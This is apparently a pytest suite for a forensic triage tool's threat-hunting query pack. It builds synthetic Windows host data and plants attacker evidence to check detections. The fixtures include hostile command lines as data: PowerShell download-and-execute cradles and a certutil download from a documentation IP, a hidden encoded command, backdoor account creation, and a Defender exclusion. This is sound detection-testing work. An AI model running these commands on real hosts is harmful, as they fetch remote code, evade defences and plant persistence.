"""The hunting pack: every query hits on planted evidence and stays silent on a clean fleet.

Two outputs of three hosts each. The CSV tables come through the real converter from exact
PowerShell bytes; tables whose rows come from EVTX, hives, task XML or text logs are written as
Parquet with the contract's own Arrow schema (what the sink writes), one file per collection.
"""
from __future__ import annotations

import datetime as dt
import re
from pathlib import Path

import pyarrow as pa
import pyarrow.parquet as pq
import pytest

import triageparse
from triageparse import contracts
from triageparse.kql import hunt, hunting_pack, parse_hunt_query

from psbytes import CSV_DIR, c8, ca, zip_collection

UTC = dt.timezone.utc
T0 = dt.datetime(2025, 10, 1, 22, 0, tzinfo=UTC)
CIM = ["PSComputerName", "CimClass", "CimInstanceProperties", "CimSystemProperties"]
CIM_VALUES = [None, "ROOT/StandardCimv2:X", "Microsoft.Management.Infrastructure.Internal.Data.CimPropertiesCollection",
              "Microsoft.Management.Infrastructure.CimSystemProperties"]
DNS_HEADER = ["TimeToLive", "Caption", "Description", "ElementName", "InstanceId", "Data", "DataLength", "Entry", "Name",
              "Section", "Status", "Type", *CIM]
TCP_HEADER = ["State", "AppliedSetting", "OffloadState", "CreationTime", "LocalAddress", "LocalPort", "OwningProcess",
              "RemoteAddress", "RemotePort", "InstanceID", *CIM]
PROC_HEADER = ["Proc_Name", "Proc_Path", "Proc_CommandLine", "Proc_ParentProcessId", "Proc_ProcessId", "Proc_Hash"]
USER_HEADER = ["AccountExpires", "Description", "Enabled", "FullName", "PasswordChangeableDate", "PasswordExpires",
               "UserMayChangePassword", "PasswordRequired", "PasswordLastSet", "LastLogon", "Name", "SID",
               "PrincipalSource", "ObjectClass"]
COMMON_DOMAINS = ["login.microsoftonline.com", "www.google.com", "outlook.office365.com"]


def dns(entries: list[tuple[str, str]]) -> bytes:
    return c8(DNS_HEADER, [["300", None, None, None, None, data, "4", name, name, "1", "0", "1", *CIM_VALUES]
                           for name, data in entries])


def tcp(conns: list[tuple[str, str, str, str]]) -> bytes:
    return c8(TCP_HEADER, [["Established", "Internet", "InHost", "10/1/2025 9:00:00 PM", "10.0.0.5", "49721", pid,
                            remote, port, f"10.0.0.5++49721++{remote}++{port}", *CIM_VALUES]
                           for remote, port, pid, _ in conns])


def processes(procs: list[tuple[str, str, str, str, str]]) -> bytes:
    return ca(PROC_HEADER, [[name, path, cmd, ppid, pid, "AB" * 32] for name, path, cmd, ppid, pid in procs])


def users(rows: list[tuple[str, str, str]]) -> bytes:
    return c8(USER_HEADER, [[None, "", enabled, "", pwset, None, "True", "True", pwset, None, name,
                             f"S-1-5-21-1-2-3-{1000 + i}", "Local", "User"]
                            for i, (name, enabled, pwset) in enumerate(rows)])


BENIGN_PROCS = [
    ("System", "", "", "0", "4"),
    ("svchost.exe", "C:\\Windows\\System32\\svchost.exe", "C:\\Windows\\system32\\svchost.exe -k netsvcs -p", "700",
     "1100"),
    ("chrome.exe", "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
     "\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\"", "3000", "4100"),
    ("powershell.exe", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
     "powershell.exe -NoProfile -ExecutionPolicy Bypass -File C:\\Scripts\\inventory.ps1", "3000", "4200"),
    ("WmiPrvSE.exe", "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe", "C:\\Windows\\system32\\wbem\\wmiprvse.exe", "700",
     "2600"),
    ("explorer.exe", "C:\\Windows\\explorer.exe", "C:\\Windows\\Explorer.EXE", "2900", "3000"),
    ("OneDrive.exe", "C:\\Users\\alice\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe",
     "\"C:\\Users\\alice\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe\" /background", "3000", "4300"),
]
DIRTY_PROCS = [
    ("powershell.exe", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
     "powershell.exe -NoP -W Hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA",
     "3000", "5001"),
    ("powershell.exe", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
     "powershell -c \"IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a.ps1')\"", "3000", "5002"),
    ("updater.exe", "C:\\Users\\alice\\AppData\\Local\\Temp\\updater.exe",
     "C:\\Users\\alice\\AppData\\Local\\Temp\\updater.exe --beacon", "3000", "5003"),
    ("svchost.exe", "C:\\Users\\Public\\svchost.exe", "C:\\Users\\Public\\svchost.exe", "3000", "5004"),
    ("cmd.exe", "C:\\Windows\\System32\\cmd.exe", "cmd.exe /Q /c whoami 1> \\\\127.0.0.1\\ADMIN$\\__1696 2>&1",
     "2600", "5005"),
]


def collection_files(host: str, dirty: bool) -> dict[str, bytes]:
    domains = [(d, "20.190.1.1") for d in COMMON_DOMAINS]
    conns = [("142.250.1.1", "443", "4100", "chrome"), ("10.0.0.1", "445", "4", "smb"),
             ("52.113.194.132", "443", "4300", "onedrive")]
    procs = list(BENIGN_PROCS)
    local_users = [("Administrator", "False", "1/5/2024 10:00:00 AM"), ("alice", "True", "3/1/2025 9:00:00 AM")]
    startup = [["OneDrive", "\"C:\\Users\\alice\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe\" /background",
                "HKU\\S-1-5-21-1-2-3-1001\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run", f"{host}\\alice"]]
    if dirty:
        domains += [("x7f3k9q2.badcdn.top", "203.0.113.7"), ("c2.duckdns.org", "203.0.113.8"),
                    ("unique-to-ws01.example.net", "198.51.100.4")]
        conns += [("203.0.113.9", "8443", "5003", "updater")]
        procs += DIRTY_PROCS
        local_users += [("svc_backup", "True", "9/30/2025 11:00:00 PM")]
        startup += [["Updater", "C:\\Users\\alice\\AppData\\Roaming\\upd\\upd.exe /q",
                     "HKU\\S-1-5-21-1-2-3-1001\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run", f"{host}\\alice"]]
    return {
        f"{CSV_DIR}/DNSCache.csv": dns(domains),
        f"{CSV_DIR}/OpenTCPConnections.csv": tcp(conns),
        "ProcessInformation/ProcessList.csv": processes(procs),
        f"{CSV_DIR}/Processes.csv": ca(["Proc_Path", "Proc_Hash"], [[p[1], "AB" * 32] for p in procs if p[1]]),
        f"{CSV_DIR}/LocalUsers.csv": users(local_users),
        f"{CSV_DIR}/AutoRun.csv": c8(["Name", "Command", "Location", "User"], startup),
    }


def typed_rows(host: str, dirty: bool) -> dict[str, list[dict]]:
    """Rows of the tables that other parsers (EVTX, hives, task XML, text logs) fill."""
    t = lambda minutes: T0 + dt.timedelta(minutes=minutes)  # noqa: E731
    sec: list[dict] = [
        {"TimeGenerated": t(0), "EventID": 4624, "LogonType": 2, "TargetUserName": "alice", "IpAddress": "127.0.0.1",
         "Account": f"{host}\\alice"},
        {"TimeGenerated": t(1), "EventID": 4625, "LogonType": 3, "TargetUserName": "alice", "IpAddress": "10.0.0.7"},
        {"TimeGenerated": t(2), "EventID": 4648, "SubjectUserName": f"{host}$", "SubjectAccount": f"WORKGROUP\\{host}$",
         "TargetUserName": "alice", "IpAddress": "-"},
        {"TimeGenerated": t(3), "EventID": 4688, "NewProcessName": "C:\\Windows\\System32\\svchost.exe",
         "CommandLine": "svchost.exe -k netsvcs", "Account": "NT AUTHORITY\\SYSTEM"},
        {"TimeGenerated": t(3), "EventID": 4688, "NewProcessName": "C:\\Windows\\System32\\net.exe",
         "CommandLine": "net.exe use Z: \\\\fs01\\users /persistent:yes", "SubjectAccount": f"{host}\\alice"},
        {"TimeGenerated": t(4), "EventID": 4732, "TargetUserName": "Event Log Readers", "TargetSid": "S-1-5-32-573",
         "MemberName": "-", "MemberSid": "S-1-5-21-1-2-3-1001", "Account": f"{host}\\admin"},
        {"TimeGenerated": t(5), "EventID": 4697, "ServiceName": "edgeupdate",
         "ServiceFileName": "\"C:\\Program Files (x86)\\Microsoft\\EdgeUpdate\\MicrosoftEdgeUpdate.exe\" /svc",
         "Account": "NT AUTHORITY\\SYSTEM"},
    ]
    win: list[dict] = [
        {"TimeGenerated": t(0), "EventID": 7045, "Channel": "System", "Provider": "Service Control Manager",
         "EventData": '{"ServiceName":"edgeupdate","ImagePath":"\\"C:\\\\Program Files (x86)\\\\Microsoft\\\\EdgeUpdate\\\\'
                      'MicrosoftEdgeUpdate.exe\\" /svc","AccountName":"LocalSystem"}'},
        {"TimeGenerated": t(1), "EventID": 4104, "Channel": "Microsoft-Windows-PowerShell/Operational",
         "Provider": "Microsoft-Windows-PowerShell", "EventData": '{"ScriptBlockText":"Get-ChildItem C:\\\\Users"}'},
        {"TimeGenerated": t(2), "EventID": 5007, "Channel": "Microsoft-Windows-Windows Defender/Operational",
         "Provider": "Microsoft-Windows-Windows Defender",
         "EventData": '{"New Value":"HKLM\\\\SOFTWARE\\\\Microsoft\\\\Windows Defender\\\\Signature Updates\\\\'
                      'SignaturesLastUpdated = 0x0"}'},
        {"TimeGenerated": t(3), "EventID": 5858, "Channel": "Microsoft-Windows-WMI-Activity/Operational",
         "Provider": "Microsoft-Windows-WMI-Activity", "EventData": '{"Operation":"ExecQuery"}'},
        {"TimeGenerated": t(4), "EventID": 21, "Channel": "Microsoft-Windows-TerminalServices-LocalSessionManager/Operational",
         "Provider": "Microsoft-Windows-TerminalServices-LocalSessionManager",
         "EventData": f'{{"EventXML":{{"User":"{host}\\\\alice","SessionID":1,"Address":"LOCAL"}}}}'},
    ]
    tasks = [{"TaskName": "MicrosoftEdgeUpdateTaskMachineCore", "TaskPath": "\\", "Source": "TaskXml",
              "Command": "C:\\Program Files (x86)\\Microsoft\\EdgeUpdate\\MicrosoftEdgeUpdate.exe", "Arguments": "/c",
              "RegistrationDate": t(-9000)}]
    services = [{"Name": "edgeupdate", "Source": "Registry", "StartType": "Automatic",
                 "ImagePath": "\"C:\\Program Files (x86)\\Microsoft\\EdgeUpdate\\MicrosoftEdgeUpdate.exe\" /svc"},
                {"Name": "Dnscache", "Source": "Registry", "ImagePath": "C:\\Windows\\system32\\svchost.exe -k NetworkService",
                 "ServiceDll": "%SystemRoot%\\System32\\dnsrslvr.dll"}]
    history = [{"UserName": "alice", "LineNumber": 1, "Command": "Get-Process | Sort-Object CPU"},
               {"UserName": "alice", "LineNumber": 2, "Command": "Get-ChildItem C:\\Users\\alice\\Documents"},
               {"UserName": "alice", "LineNumber": 3, "Command": "net user alice /domain"}]
    exclusions = [{"ExclusionType": "Path", "Value": "C:\\Program Files\\Contoso\\Agent\\", "TypeEvidence": "file name"}]
    mplog = [{"TimeGenerated": t(0), "LogType": "MPLog", "EntryType": "ServiceState", "Message": "Service started"}]
    downloads = [{"StartTime": t(-60), "Browser": "Chrome", "UserName": "alice", "Url": "https://contoso.com/q3.pdf",
                  "TargetPath": "C:\\Users\\alice\\Downloads\\q3.pdf", "State": "COMPLETE"}]
    if dirty:
        exclusions += [{"ExclusionType": "Path", "Value": "C:\\Users\\Public", "TypeEvidence": "file name"}]
        mplog += [{"TimeGenerated": t(40), "LogType": "MPDetection", "EntryType": "DetectionAdd",
                   "ThreatName": "Trojan:Win64/CobaltStrike.CR!MTB", "Path": "C:\\Users\\Public\\Libraries\\rb.exe"}]
        downloads += [{"StartTime": t(-30), "Browser": "Edge", "UserName": "alice",
                       "Url": "https://cdn-docs-portal.top/share/Invoice_2025-10-01.pdf.exe",
                       "TargetPath": "C:\\Users\\alice\\Downloads\\Invoice_2025-10-01.pdf.exe", "State": "COMPLETE"}]
        sec += [{"TimeGenerated": t(10) + dt.timedelta(seconds=i), "EventID": 4625, "LogonType": 3,
                 "TargetUserName": "administrator", "IpAddress": "198.51.100.66"} for i in range(12)]
        sec += [{"TimeGenerated": t(20) + dt.timedelta(seconds=i), "EventID": 4625, "LogonType": 3,
                 "TargetUserName": name, "IpAddress": "198.51.100.77"}
                for i, name in enumerate(["bob", "carol", "dave", "erin", "frank", "grace"])]
        sec += [
            {"TimeGenerated": t(11), "EventID": 4624, "LogonType": 10, "TargetUserName": "administrator",
             "IpAddress": "198.51.100.66", "Account": f"{host}\\administrator"},
            {"TimeGenerated": t(12), "EventID": 4648, "SubjectUserName": "alice", "SubjectAccount": f"{host}\\alice",
             "TargetUserName": "backupadmin",
             "TargetServerName": "DC01", "IpAddress": "-"},
            {"TimeGenerated": t(13), "EventID": 4720, "SubjectAccount": f"{host}\\administrator",
             "TargetUserName": "svc_backup", "TargetSid": "S-1-5-21-1-2-3-1005"},
            {"TimeGenerated": t(14), "EventID": 4732, "TargetUserName": "Administrators", "TargetSid": "S-1-5-32-544",
             "MemberName": "-", "MemberSid": "S-1-5-21-1-2-3-1005", "Account": f"{host}\\administrator"},
            {"TimeGenerated": t(15), "EventID": 4697, "ServiceName": "PSEXESVC",
             "ServiceFileName": "%SystemRoot%\\PSEXESVC.exe", "Account": f"{host}\\administrator"},
            {"TimeGenerated": t(16), "EventID": 4688, "NewProcessName": "C:\\Windows\\System32\\certutil.exe",
             "CommandLine": "certutil.exe -urlcache -split -f http://203.0.113.9/p.exe C:\\Users\\Public\\p.exe",
             "Account": f"{host}\\administrator"},
            {"TimeGenerated": t(13), "EventID": 4688, "NewProcessName": "C:\\Windows\\System32\\net.exe",
             "CommandLine": "net.exe user svc_backup Winter2025!x /add", "SubjectAccount": f"{host}\\administrator"},
            {"TimeGenerated": t(14), "EventID": 4688, "NewProcessName": "C:\\Users\\Public\\Libraries\\rb.exe",
             "CommandLine": "\"C:\\Users\\Public\\Libraries\\rb.exe\"", "SubjectAccount": f"{host}\\administrator"},
            {"TimeGenerated": t(30), "EventID": 1102, "SubjectAccount": f"{host}\\administrator"},
        ]
        win += [
            {"TimeGenerated": t(15), "EventID": 7045, "Channel": "System", "Provider": "Service Control Manager",
             "EventData": '{"ServiceName":"PSEXESVC","ImagePath":"%SystemRoot%\\\\PSEXESVC.exe","AccountName":"LocalSystem"}'},
            {"TimeGenerated": t(17), "EventID": 7045, "Channel": "System", "Provider": "Service Control Manager",
             "EventData": '{"ServiceName":"WinUpd","ImagePath":"cmd.exe /c powershell -nop -w hidden -c calc",'
                          '"AccountName":"LocalSystem"}'},
            {"TimeGenerated": t(11), "EventID": 1149,
             "Channel": "Microsoft-Windows-TerminalServices-RemoteConnectionManager/Operational",
             "Provider": "Microsoft-Windows-TerminalServices-RemoteConnectionManager",
             "EventData": '{"EventXML":{"Param1":"administrator","Param2":"","Param3":"198.51.100.66"}}'},
            {"TimeGenerated": t(31), "EventID": 104, "Channel": "System", "Provider": "Microsoft-Windows-Eventlog",
             "EventData": '{"LogFileCleared":{"SubjectUserName":"administrator","SubjectDomainName":"WS01",'
                          '"Channel":"System"}}'},
            {"TimeGenerated": t(18), "EventID": 4104, "Channel": "Microsoft-Windows-PowerShell/Operational",
             "Provider": "Microsoft-Windows-PowerShell",
             "EventData": '{"ScriptBlockText":"$wc = New-Object Net.WebClient; IEX $wc.DownloadString(\'http://203.0.113.9/x\')"}'},
            {"TimeGenerated": t(19), "EventID": 1116, "Channel": "Microsoft-Windows-Windows Defender/Operational",
             "Provider": "Microsoft-Windows-Windows Defender",
             "EventData": '{"Threat Name":"HackTool:Win32/Mimikatz","Path":"file:_C:\\\\Users\\\\Public\\\\m.exe",'
                          '"Action Name":"Quarantine"}'},
            {"TimeGenerated": t(20), "EventID": 5001, "Channel": "Microsoft-Windows-Windows Defender/Operational",
             "Provider": "Microsoft-Windows-Windows Defender", "EventData": '{}'},
            {"TimeGenerated": t(21), "EventID": 5007, "Channel": "Microsoft-Windows-Windows Defender/Operational",
             "Provider": "Microsoft-Windows-Windows Defender",
             "EventData": '{"New Value":"HKLM\\\\SOFTWARE\\\\Microsoft\\\\Windows Defender\\\\Exclusions\\\\Paths\\\\'
                          'C:\\\\Users\\\\Public = 0x0"}'},
            {"TimeGenerated": t(22), "EventID": 5861, "Channel": "Microsoft-Windows-WMI-Activity/Operational",
             "Provider": "Microsoft-Windows-WMI-Activity",
             "EventData": '{"CONSUMER":"CommandLineEventConsumer=\\"Updater\\"","PossibleCause":"Binding EventFilter"}'},
        ]
        tasks += [
            {"TaskName": "OneDriveSync", "TaskPath": "\\", "Source": "TaskXml",
             "Command": "C:\\Users\\alice\\AppData\\Local\\Temp\\sync.exe", "RegistrationDate": t(5)},
            {"TaskName": "Maint", "TaskPath": "\\Microsoft\\", "Source": "TaskXml", "Command": "powershell.exe",
             "Arguments": "-w hidden -c \"iex (irm http://203.0.113.9/m)\"", "RegistrationDate": t(6)},
        ]
        services += [
            {"Name": "PSEXESVC", "Source": "Registry", "ImagePath": "%SystemRoot%\\PSEXESVC.exe"},
            {"Name": "WinUpd", "Source": "Registry", "ImagePath": "cmd.exe /c powershell -nop -w hidden -c calc"},
        ]
        history += [
            {"UserName": "alice", "LineNumber": 3,
             "Command": "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a.ps1')"},
            {"UserName": "alice", "LineNumber": 4, "Command": "Add-MpPreference -ExclusionPath C:\\Users\\Public"},
            {"UserName": "alice", "LineNumber": 5, "Command": "net localgroup administrators svc_backup /add"},
        ]
    return {"SecurityEvent": sec, "WindowsEvent": win, "ScheduledTask": tasks, "Service": services,
            "PowerShellHistory": history, "DefenderExclusion": exclusions, "DefenderLogEntry": mplog,
            "BrowserDownload": downloads}


def write_table(out: Path, table: str, collection_id: str, computer: str, rows: list[dict]) -> None:
    """Write rows as the sink does: the contract's Arrow schema, OUT/<Table>/<CollectionId>.parquet."""
    schema = contracts.get(table).schema
    full = [{"CollectionId": collection_id, "Computer": computer, "SourceFile": f"fixture/{table}",
             "SourceRecord": i + 1, **row} for i, row in enumerate(rows)]
    unknown = {k for r in full for k in r} - set(schema.names)
    assert not unknown, f"{table} has no columns {unknown}"
    path = out / table / f"{collection_id}.parquet"
    path.parent.mkdir(parents=True, exist_ok=True)
    existing = pq.read_table(path) if path.exists() else None
    new = pa.Table.from_pylist(full, schema=schema)
    pq.write_table(pa.concat_tables([existing, new]) if existing is not None else new, path)


def build_fleet(root: Path, dirty: bool) -> Path:
    """Three hosts; with ``dirty`` the first (WS01) carries every planted finding."""
    zips = []
    for i, host in enumerate(("WS01", "WS02", "WS03")):
        name = f"DFIR-{host}-2025-10-02"
        zips.append(zip_collection(root / f"{name}.zip", name, collection_files(host, dirty and i == 0)))
    out = root / "out"
    summary = triageparse.convert(zips, out)
    assert summary.ok, summary
    for c in summary.collections:
        for table, rows in typed_rows(c.computer, dirty and c.computer == "WS01").items():
            write_table(out, table, c.collection_id, c.computer, rows)
    return out


@pytest.fixture(scope="module")
def dirty(tmp_path_factory) -> Path:
    return build_fleet(tmp_path_factory.mktemp("dirty"), dirty=True)


@pytest.fixture(scope="module")
def clean(tmp_path_factory) -> Path:
    return build_fleet(tmp_path_factory.mktemp("clean"), dirty=False)


@pytest.fixture(scope="module")
def dirty_results(dirty):
    return {r.query.name: r for r in hunt(dirty)}


@pytest.fixture(scope="module")
def clean_results(clean):
    return {r.query.name: r for r in hunt(clean)}


# What each query must find among the planted evidence: a value that must appear in its hits.
MUST_FIND = {
    "autorun_user_writable_path": "upd.exe",
    "task_user_writable_path": "sync.exe",
    "task_powershell_encoded_or_cradle": "irm http://203.0.113.9/m",
    "process_powershell_encoded": "-enc SQBFAFgA",
    "process_download_cradle": "DownloadString",
    "pshistory_download_or_encoded": "DownloadString",
    "pshistory_defense_evasion": "Add-MpPreference",
    "process_from_temp": "updater.exe",
    "image_system_name_wrong_folder": "C:\\Users\\Public\\svchost.exe",
    "image_unusual_location": "C:\\Users\\alice\\AppData\\Local\\Temp\\updater.exe",
    "service_suspicious_image_path": "WinUpd",
    "psexec_service": "PSEXESVC",
    "eventlog_cleared_system": "WS01\\administrator",
    "failed_logon_burst": "198.51.100.66",
    "password_spraying": "198.51.100.77",
    "failed_then_successful_logon": "198.51.100.66",
    "rdp_logons": "198.51.100.66",
    "rdp_inbound_connections": "198.51.100.66",
    "explicit_credential_logons": "backupadmin",
    "security_log_cleared": "WS01\\administrator",
    "new_local_user": "svc_backup",
    "admin_group_change": "S-1-5-32-544",
    "security_service_install": "PSEXESVC",
    "system_service_install": "WinUpd",
    "psexec_service_events": "PSEXESVC",
    "process_creation_encoded_powershell": "certutil.exe -urlcache",
    "wmi_remote_execution": "127.0.0.1\\ADMIN$",
    "wmi_event_subscription": "CommandLineEventConsumer",
    "powershell_scriptblock_suspicious": "DownloadString",
    "defender_detection_events": "HackTool:Win32/Mimikatz",
    "defender_tampering_events": "Exclusions",
    "dns_odd_domains": "x7f3k9q2.badcdn.top",
    "dns_rare_domains": "example.net",
    "tcp_public_unusual_process": "updater.exe",
    "local_user_recent": "svc_backup",
    "account_commands": "net.exe user svc_backup Winter2025!x /add",
    "process_creation_user_writable_path": "C:\\Users\\Public\\Libraries\\rb.exe",
    "pshistory_account_commands": "net localgroup administrators svc_backup /add",
    "defender_exclusions": "user-writable path",
    "defender_mplog_detections": "CobaltStrike",
    "browser_executable_download": "Invoice_2025-10-01.pdf.exe",
}


def test_pack_has_at_least_25_queries_each_with_a_full_header():
    pack = hunting_pack()
    assert len(pack) >= 25
    for q in pack:
        assert q.title and q.finds and q.tables
        assert all(re.fullmatch(r"T\d{4}(\.\d{3})?", a) for a in q.attack), (q.name, q.attack)
        assert all(t in contracts.all_contracts() for t in q.tables), (q.name, q.tables)


def test_member_access_only_on_dynamic_columns():
    """duckdb-kql lets ``Column.Field`` through on a string column; ADX refuses it. Keep the pack ADX-valid."""
    for q in hunting_pack():
        body = "\n".join(line for line in q.text.splitlines() if not line.lstrip().startswith("//"))
        types: dict[str, set[str]] = {}
        for table in q.tables:
            for col in contracts.get(table).columns:
                types.setdefault(col.name, set()).add(col.kusto_type)
        for name, kinds in types.items():
            if "dynamic" not in kinds:      # a name dynamic in one of the tables is checked by reading
                assert not re.search(rf"(?<![\w.@\\]){name}(\.[A-Za-z_]|\[)", body), (q.name, name)


def test_every_query_has_planted_evidence_in_this_suite():
    assert sorted(MUST_FIND) == sorted(q.name for q in hunting_pack())


@pytest.mark.parametrize("name", sorted(MUST_FIND))
def test_query_hits_the_planted_finding_on_ws01_only(name, dirty_results):
    result = dirty_results[name]
    assert result.status == "hits", result.note
    text = result.hits.astype(str).to_csv()
    assert MUST_FIND[name] in text
    assert set(result.by_collection) == {"WS01"}


@pytest.mark.parametrize("name", sorted(MUST_FIND))
def test_query_is_silent_on_a_clean_fleet(name, clean_results):
    result = clean_results[name]
    assert result.status == "clean", (result.note, None if result.hits is None else result.hits.to_dict("records"))


def test_hits_are_written_per_query_and_stale_files_removed(dirty, dirty_results):
    written = {p.stem for p in (dirty / "_hunt").glob("*.parquet")}
    assert written == {n for n, r in dirty_results.items() if r.status == "hits"}
    first = pq.read_table(dirty / "_hunt" / "failed_logon_burst.parquet").to_pylist()
    assert first[0]["Failures"] == 12 and first[0]["Window"].tzinfo is not None
    # _hunt is output, not a table: the next run neither queries it nor trips over it
    again = hunt(dirty, ["failed_logon_burst"])
    assert [r.status for r in again] == ["hits"]


def test_missing_tables_skip_the_query_with_a_note(tmp_path):
    name = "DFIR-WS09-2025-10-02"
    z = zip_collection(tmp_path / f"{name}.zip", name, {f"{CSV_DIR}/DNSCache.csv": dns([("a.example.com", "1.2.3.4")]),
                                                        f"{CSV_DIR}/OpenTCPConnections.csv": tcp([("203.0.113.9", "443",
                                                                                                   "777", "")])})
    out = tmp_path / "out"
    triageparse.convert([z], out)
    results = {r.query.name: r for r in hunt(out)}
    assert results["failed_logon_burst"].status == "skipped"
    assert "SecurityEvent" in results["failed_logon_burst"].note
    assert results["dns_odd_domains"].status == "clean"
    # a query over several tables runs on those that are here, and says what was missing:
    # the connection is reported although no process list tells who owns it
    partial = results["tcp_public_unusual_process"]
    assert partial.status == "hits" and "no Process table" in partial.note
    assert list(partial.hits["RemoteAddress"]) == ["203.0.113.9"]


def test_unknown_query_name_lists_the_pack(dirty):
    with pytest.raises(KeyError, match="dns_odd_domains"):
        hunt(dirty, ["no_such_query"])


def test_header_lines_are_required(tmp_path):
    bad = tmp_path / "x.kql"
    bad.write_text("// title: x\nSecurityEvent | take 1\n")
    with pytest.raises(ValueError, match="finds"):
        parse_hunt_query(bad)


def test_cli_hunt_prints_hits_per_collection(dirty, capsys):
    from triageparse.cli import main
    rc = main(["hunt", str(dirty), "--query", "failed_logon_burst", "--query", "new_local_user"])
    text = capsys.readouterr().out
    assert rc == 0
    assert "failed_logon_burst" in text and "WS01" in text and "2 of 2 queries hit" in text
